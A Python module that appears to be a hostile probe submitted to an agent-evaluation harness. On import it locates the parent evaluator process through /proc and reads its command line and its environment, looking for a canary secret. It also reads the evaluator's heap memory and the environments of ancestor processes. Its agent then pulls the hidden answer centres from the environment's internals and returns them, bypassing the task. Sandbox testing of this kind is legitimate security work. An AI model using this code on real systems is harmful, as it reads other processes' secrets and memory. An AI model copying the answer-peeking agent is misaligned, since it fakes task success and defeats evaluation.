"""Hostile: read the evaluator's command line, environment and heap through ``/proc``."""

import os

NAME = "hostile-proc-read"


def _evaluator() -> int | None:
    pid = os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/status") as fh:
                pid = int(next(x for x in fh if x.startswith("PPid:")).split()[1])
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                cmd = fh.read().split(b"\0")[0]
        except (OSError, StopIteration, ValueError):
            return None
        if b"python" in os.path.basename(cmd):
            return pid
    return None


def _chain() -> list[int]:
    out, pid = [], os.getpid()
    while pid > 1 and len(out) < 4:
        try:
            with open(f"/proc/{pid}/status") as fh:
                pid = int(next(x for x in fh if x.startswith("PPid:")).split()[1])
        except (OSError, StopIteration, ValueError):
            break
        if pid > 0:
            out.append(pid)
    return out


def _read(path: str, n: int = 100_000) -> bytes | str:
    try:
        with open(path, "rb") as fh:
            return fh.read(n)
    except OSError as err:
        return err.strerror


def _heap(pid: int) -> str:
    try:
        with open(f"/proc/{pid}/maps") as fh:
            line = next(x for x in fh if x.rstrip().endswith("[heap]"))
        start = int(line.split("-")[0], 16)
        with open(f"/proc/{pid}/mem", "rb") as fh:
            fh.seek(start)
            return f"{len(fh.read(4096))} bytes"
    except (OSError, StopIteration, ValueError) as err:
        return getattr(err, "strerror", None) or type(err).__name__


def _attack() -> str:
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    notes = [f"processes visible: {len(pids)}"]
    pid = _evaluator()
    if pid is None:
        notes.append("no evaluator visible")
    else:
        cmd = _read(f"/proc/{pid}/cmdline")
        env = _read(f"/proc/{pid}/environ")
        if isinstance(cmd, bytes):
            cmd = cmd.replace(bytes(1), b" ")[:200]
        notes.append(f"evaluator cmdline: {cmd!r}")
        if isinstance(env, bytes):
            canary = [v for v in env.split(bytes(1)) if v.startswith(b"TSG_CANARY")]
            notes.append(f"evaluator environ: {len(env)} bytes, canary {canary!r}")
        else:
            notes.append(f"evaluator environ: {env}")
        notes.append(f"evaluator heap: {_heap(pid)}")
    for pid in _chain():  # its other ancestors (sizes only, nothing of their content kept)
        env = _read(f"/proc/{pid}/environ")
        notes.append(f"/proc/{pid}/environ: "
                     + (f"{len(env)} bytes" if isinstance(env, bytes) else env))
    return "; ".join(notes)


DESCRIPTION = _attack()


class Centre:
    def __init__(self, env):
        self.centers = env.unwrapped.polytopes.centers.copy()

    def act(self, obs, info):
        return self.centers[info["category"]].copy()


def make_agent(env):
    return Centre(env)
